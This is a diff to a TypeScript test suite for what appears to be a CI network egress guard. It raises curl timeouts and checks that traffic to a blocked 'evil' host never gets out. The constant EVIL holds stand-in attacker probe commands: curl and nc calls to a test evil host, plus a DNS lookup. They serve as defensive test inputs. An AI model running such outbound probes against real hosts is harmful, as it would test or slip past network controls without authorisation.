@@ -5,7 +5,7 @@ import { guardOf, pidsOf, proxyOf, statusOf, traces } from './guard-lab.ts';
 
 const EVIL = `set +e
 curl -sSk --max-time 2 https://${WORLD.evil}/x; curl -sS --max-time 2 https://evil.test/x; echo x | timeout 1 nc -u -w1 ${WORLD.evil} 9999; getent ahosts x.evil.test`;
-const ALLOWED = 'curl -sS --max-time 10 --retry 3 --retry-all-errors https://ok.test/still';
+const ALLOWED = 'curl -sS --max-time 30 --retry 3 --retry-all-errors https://ok.test/still';
 
 const pause = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));
 
@@ -108,7 +108,7 @@ describe('the guard is killed', () => {
       job.machine.inside(['touch', '/home/runner/work/repo/repo/killed']);
       // The runner itself is shut in as well: it hears nothing, so the steps go on alone.
       const before = job.lab.marks();
-      await job.workspaceFile('tried', 30_000);
+      await job.workspaceFile('tried');
       const since = job.lab.since(before);
       expect(reached(since, WORLD.evil)).toEqual([]);
       expect(reached(since, WORLD.ok)).toEqual([]);
@@ -120,7 +120,7 @@ describe('the guard is killed', () => {
       expect(cleaned.status, cleaned.stderr).toBe(0);
       expect(JSON.parse(cleaned.stdout).removed).toEqual([expect.stringMatching(/^job [0-9a-f]{8}$/)]);
       expect(traces(job.machine)).toEqual([]);
-      expect(job.machine.inside(['curl', '-sSk', '--max-time', '5', `https://${WORLD.ok}/open`]).stdout).toContain('hello');
+      expect(job.machine.inside(['curl', '-sSk', '--max-time', '60', `https://${WORLD.ok}/open`]).stdout).toContain('hello');
     } finally {
       await job.stop();
     }
@@ -190,7 +190,7 @@ describe('an orphan that waits for the end of the job', () => {
       steps: [
         {
           name: 'system store',
-          run: 'env -i curl -sS --max-time 10 https://ok.test/env; sudo -n curl -sS --max-time 10 https://ok.test/sudo',
+          run: 'env -i curl -sS --max-time 60 https://ok.test/env; sudo -n curl -sS --max-time 60 https://ok.test/sudo',
         },
         { name: 'orphan', run: ORPHAN },
       ],
@@ -211,7 +211,7 @@ describe('an orphan that waits for the end of the job', () => {
       expect(reached(job.result(), WORLD.evil)).toEqual([]);
       expect(traces(job.machine)).toEqual([]);
       expect(job.log().length).toBeGreaterThan(0);
-      expect(job.machine.inside(['curl', '-sSk', '--max-time', '5', `https://${WORLD.ok}/open`]).stdout).toContain('hello');
+      expect(job.machine.inside(['curl', '-sSk', '--max-time', '60', `https://${WORLD.ok}/open`]).stdout).toContain('hello');
     } finally {
       await job.stop();
     }
